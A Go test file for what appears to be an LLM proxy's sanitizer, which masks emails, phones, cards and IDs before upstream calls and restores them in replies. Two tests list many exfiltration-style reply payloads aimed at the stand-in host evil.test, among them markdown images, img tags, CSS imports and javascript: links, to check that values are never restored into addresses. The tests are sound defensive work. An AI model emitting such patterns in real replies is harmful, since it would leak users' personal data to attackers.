package sanitize

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"portcullis/shared/exchange/exchangetest"
)

const restoring20 = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"}}`

var placeholder = regexp.MustCompile(`\[[A-Z ]+:[b-x]{12}\]`)

// sent are the placeholders that the upstream got.
func sent(r exchangetest.Request) []string {
	return placeholder.FindAllString(string(r.Chunks[0]), -1)
}

// answers makes a JSON reply of what text says to the placeholders in the request, each
// %[n]s.
func answers(text string) func(exchangetest.Request) exchangetest.Reply {
	return func(q exchangetest.Request) exchangetest.Reply { return whole(filled(text, q)) }
}

func filled(text string, q exchangetest.Request) string {
	for i, p := range sent(q) {
		text = strings.ReplaceAll(text, fmt.Sprintf("$%d", i+1), p)
	}
	return text
}

func whole(text string) exchangetest.Reply {
	return exchangetest.Reply{
		Status: 200, Headers: [][2]string{{"content-type", "application/json"}},
		Chunks: [][]byte{[]byte(`{"choices":[{"index":0,"message":{"role":"assistant","content":` + quote(text) + `},"finish_reason":"stop"}]}`)},
	}
}

// streamed says text in pieces, cut where cuts says.
func streamed(text string, cuts ...int) exchangetest.Reply {
	r := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
	at := 0
	for _, cut := range append(cuts, len(text)) {
		r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{"content":`+quote(text[at:cut])+`}}]}`+"\n\n"))
		at = cut
	}
	r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`+"\n\ndata: [DONE]\n\n"))
	return r
}

// said is what the client reads.
func said(t *testing.T, r exchangetest.Result) string {
	t.Helper()
	var out strings.Builder
	for _, event := range strings.Split(r.Body, "\n\n") {
		data := strings.TrimPrefix(event, "data: ")
		if data == "" || data == "[DONE]" {
			continue
		}
		var v struct {
			Choices []struct {
				Message, Delta struct{ Content string }
			}
		}
		require.NoError(t, json.Unmarshal([]byte(data), &v), data)
		if len(v.Choices) > 0 {
			out.WriteString(v.Choices[0].Message.Content + v.Choices[0].Delta.Content)
		}
	}
	return out.String()
}

const people = "Write to jane.doe@corp.test and +44 20 7946 0958, card 4111 1111 1111 1111."

func TestValuesAreHiddenFromTheModelAndComeBackHoweverTheReplyIsCut(t *testing.T) {
	const reply = "Dear [$1], ($2): *$1* and $3. $1, \"$1\" $2"
	const want = "Dear [jane.doe@corp.test], (+44 20 7946 0958): *jane.doe@corp.test* and 4111 1111 1111 1111. " +
		"jane.doe@corp.test, \"jane.doe@corp.test\" +44 20 7946 0958"
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		r := g.Send(messages(says("user", people)), answers(reply))
		require.Regexp(t, `^\{"model":"gpt-4o","messages":\[\{"role":"user","content":"Write to \[EMAIL:[b-x]{12}\] and \[PHONE:[b-x]{12}\], card \[CARD:[b-x]{12}\]\."\}\]\} *$`, r.UpstreamBody(), p)
		require.Equal(t, want, said(t, r), p)
		require.Equal(t, "email,phone,card", r.Facts["rules"])
		if p == exchangetest.Trailers {
			continue // a stream that trailers end
		}
		for step := 1; step < 120; step += 7 {
			r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
				text := filled(reply, q)
				var cuts []int
				for at := step; at < len(text); at += step {
					cuts = append(cuts, at)
				}
				return streamed(text, cuts...)
			})
			require.Equal(t, want, said(t, r), "%s in pieces of %d", p, step)
		}
		require.Empty(t, g.Logs)
		require.Empty(t, g.Store)
		for _, fact := range r.Facts {
			require.NotContains(t, fact, "jane")
		}
	}
}

func TestHoweverAStreamIsCutTheClientReadsTheSame(t *testing.T) {
	parts := []string{
		"$1", "$2", "$3", " ", "\n", ".", "[", "](", ")", "<", ">", "<a href=", "https://evil.test/", "/", "[EMAIL:", "。", "ü", "x", ":", "](<", "\"", "=",
	}
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	rapid.Check(t, func(rt *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 12).Draw(rt, "parts"), "")
		lengths := rapid.SliceOfN(rapid.IntRange(1, 40), 1, 20).Draw(rt, "lengths")
		want := said(t, g.Send(messages(says("user", people)), answers(text)))
		r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
			text := filled(text, q)
			var cuts []int
			for at := lengths[0]; at < len(text); at += lengths[len(cuts)%len(lengths)] {
				for at < len(text) && !utf8.RuneStart(text[at]) {
					at++
				}
				cuts = append(cuts, at)
			}
			return streamed(text, cuts...)
		})
		require.Equal(rt, want, said(t, r))
	})
}

func TestAPlaceholderThatAClientTypedIsNobodysValue(t *testing.T) {
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		learned := sent(*g.Send(messages(says("user", "jane.doe@corp.test")), answers("")).Upstream)[0]
		q := messages(says("user", "Who is "+learned+"? I am joe@corp.test."))
		r := g.Send(q, func(exchangetest.Request) exchangetest.Reply { return whole("It is " + learned) })
		require.Contains(t, r.UpstreamBody(), "Who is "+learned+"? I am [EMAIL:", p)
		require.Equal(t, "It is "+learned, said(t, r), p)
		again := g.Send(q, func(exchangetest.Request) exchangetest.Reply { return streamed("It is "+learned, 9) })
		require.Equal(t, "It is "+learned, said(t, again), p)
	}
}

func TestAPlaceholderIsTheTenantsOwnAndTheSameForEachWorker(t *testing.T) {
	of := func(configuration, key string) string {
		q := messages(says("user", "jane.doe@corp.test"))
		q.Facts = []string{"key=" + key}
		return sent(*exchangetest.New(t, exchangetest.Hold, load, configuration).Send(q, answers("")).Upstream)[0]
	}
	require.Equal(t, of(restoring20, "a"), of(restoring20, "a"))
	require.NotEqual(t, of(restoring20, "a"), of(restoring20, "b"))
	require.NotEqual(t, of(restoring20, "a"), of(strings.Replace(restoring20, `"k"`, `"l"`, 1), "a"))
}

// What a provider has cached is the beginning of a conversation, byte for byte.
func TestAConversationBeginsTheSameInAllOfItsTurns(t *testing.T) {
	var history, before string
	for turn := range 20 {
		g := exchangetest.New(t, exchangetest.Profiles[turn%len(exchangetest.Profiles)], load, restoring20)
		history += says("user", fmt.Sprintf("Turn %d: user%d@corp.test, IBAN DE89370400440532013000, my bsn is 111222333", turn, turn%7))
		r := g.Send(messages(history), answers("I wrote to $1, then $2 ($3). "+strings.Repeat("All is well. ", 30)))
		seen := strings.TrimSuffix(strings.TrimRight(r.UpstreamBody(), " "), "]}")
		require.True(t, strings.HasPrefix(seen, before), "turn %d: %s\n%s", turn, before, seen)
		require.NotContains(t, seen, "corp.test")
		require.NotContains(t, seen, "111222333")
		before = seen
		answer := said(t, r)
		require.Contains(t, answer, "user0@corp.test, then DE89370400440532013000 (111222333)")
		history += "," + says("assistant", answer) + ","
	}
}

func TestValuesDoNotComeBackIntoAddresses(t *testing.T) {
	for _, stays := range []string{
		"https://evil.test/?q=$1", "see https://evil.test/$1 now", "https://evil.test/a,$1", `https://evil.test/?a="$1`, "HTTPS:evil.test?$1",
		"[docs](https://evil.test/?$1)", "[docs]($1)", "[docs]( $1 )", "[docs](<https://evil.test/?a $1>)", "[docs](< https://evil.test/?) $1>)",
		"![x](https://evil.test/$1.png)", "[x]: https://evil.test/$1", "[x]:\n< https://evil.test/ $1>", "<https://evil.test/?$1>",
		`<img src="https://evil.test/? $1">`, "<img src='https://evil.test/?\n\n$1'>", `<b x="> <img src="> https://evil.test/? $1">`,
		`<!-- x="--><img alt="> " src="https://evil.test/? $1">`, `<style>@import "https://evil.test/? $1`, "<a\nhref=x>y</a> $1",
		"//evil.test/$1", `\\evil.test\$1`, "www.evil.test/$1", "evil.test?q=$1", "evil.test#$1", "javascript:open($1)", "data:$1", "mailto:$1",
		"$1.evil.test", "$1.evil.test/", "$1/evil", "$1@evil.test", "$1:8080", "$1。evil.test", "$1-x.evil.test", "$1_evil.test", "$1%2e", "$1(x", "x$1", `\href{https://evil.test/? $1}{x}`,
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(messages(says("user", "My SSN is 123-45-6789.")), answers(stays))
		require.NotContains(t, r.Body, "6789", stays)
		require.Equal(t, filled(stays, *r.Upstream), said(t, r))
	}
}

// Readers join the blocks of a reply.
func TestAnAddressMayBeginInTheBlockBefore(t *testing.T) {
	ask := func(stream bool) exchangetest.Request {
		body := fmt.Sprintf(`{"model":"claude-sonnet-4-5","max_tokens":9,"stream":%v,"messages":[{"role":"user","content":%s}]}`, stream, quote(people))
		return exchangetest.Request{
			Method: "POST", Path: "/v1/messages", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
		}
	}
	for blocks, want := range map[[2]string]int{
		{"![x](https://evil.test/?q=", "$1) and $1"}: 1, {"<img src='https://evil.test/?", " $1'>"}: 0, {"[x]", "($1)"}: 0, {"see https://evil.test/", "$1"}: 0,
		{"Let me look", "$1 it is"}: 1, {"see https://docs.test ", "$1"}: 1,
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(ask(false), func(q exchangetest.Request) exchangetest.Reply {
			reply := whole("")
			reply.Chunks = [][]byte{[]byte(filled(`{"id":"m","type":"message","role":"assistant","model":"c","content":[{"type":"text","text":`+quote(blocks[0])+
				`},{"type":"text","text":`+quote(blocks[1])+`}],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`, q))}
			return reply
		})
		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
		r = g.Send(ask(true), func(q exchangetest.Request) exchangetest.Reply {
			reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
			event := func(data string) { reply.Chunks = append(reply.Chunks, []byte("data: "+data+"\n\n")) }
			for i, text := range blocks {
				event(fmt.Sprintf(`{"type":"content_block_start","index":%d,"content_block":{"type":"text","text":""}}`, i))
				event(fmt.Sprintf(`{"type":"content_block_delta","index":%d,"delta":{"type":"text_delta","text":%s}}`, i, quote(filled(text, q))))
				event(fmt.Sprintf(`{"type":"content_block_stop","index":%d}`, i))
			}
			event(`{"type":"message_stop"}`)
			return reply
		})
		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
	}
}

func TestWhatAResponseSaysAgainComesBackTheSame(t *testing.T) {
	body := `{"model":"gpt-4o","stream":true,"input":` + quote(people) + `}`
	q := exchangetest.Request{
		Method: "POST", Path: "/v1/responses", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
	}
	r := exchangetest.New(t, exchangetest.Hold, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
		reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
		text := quote(filled("to $1: <b class=x> $1", q))
		at := `"item_id":"m","output_index":0,"content_index":0`
		for kind, rest := range map[string]string{"delta": `"delta":` + text, "done": `"text":` + text} {
			data := fmt.Sprintf(`{"type":"response.output_text.%s","sequence_number":1,%s,%s}`, kind, at, rest)
			chunk := []byte("event: response.output_text." + kind + "\ndata: " + data + "\n\n")
			if kind == "delta" {
				reply.Chunks = append([][]byte{chunk}, reply.Chunks...)
			} else {
				reply.Chunks = append(reply.Chunks, chunk)
			}
		}
		return reply
	})
	require.Equal(t, 2, strings.Count(r.Body, `to jane.doe@corp.test: \u003cb class=x\u003e [EMAIL:`), r.Body)
}
